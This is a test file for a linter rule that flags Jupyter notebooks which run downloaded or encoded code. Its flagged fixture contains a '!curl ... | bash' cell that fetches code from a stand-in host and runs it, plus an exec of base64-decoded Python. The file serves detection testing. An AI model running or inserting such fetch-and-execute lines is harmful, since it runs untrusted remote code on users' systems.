import { ruleTest } from '../../testing/rule-tester.js';
import rule from './notebook-runs-download.js';

const nb = (...cells: string[][]) => JSON.stringify({ cells: cells.map((source) => ({ cell_type: 'code', metadata: {}, outputs: [], source })), metadata: {}, nbformat: 4, nbformat_minor: 5 }, null, 1);

ruleTest(rule, {
  clean: [
    { name: 'pip install and a data download', file: 'analysis.ipynb', code: nb(['!pip install -r requirements.txt\n', '!wget -q https://example.com/prices.csv'], ['import pandas as pd\n', "df = pd.read_csv('prices.csv')"]) },
    { name: 'exec of a local file in a markdown-free notebook', file: 'nb.ipynb', code: nb(["exec(open('helpers.py').read())"]) },
  ],
  flagged: [
    {
      name: '!curl | bash and exec(b64decode) cells',
      file: 'take-home.ipynb',
      code: nb(['!curl -s http://x.example/nb | bash\n', 'import pandas as pd'], ["import base64; exec(base64.b64decode('cHJpbnQoMSk='))"]),
      findings: [
        { line: 8, severity: 'high', confidence: 'high', message: /pipes a download into a shell/ },
        { line: 17, severity: 'high', confidence: 'high', message: /executes downloaded or encoded Python/ },
      ],
    },
  ],
});
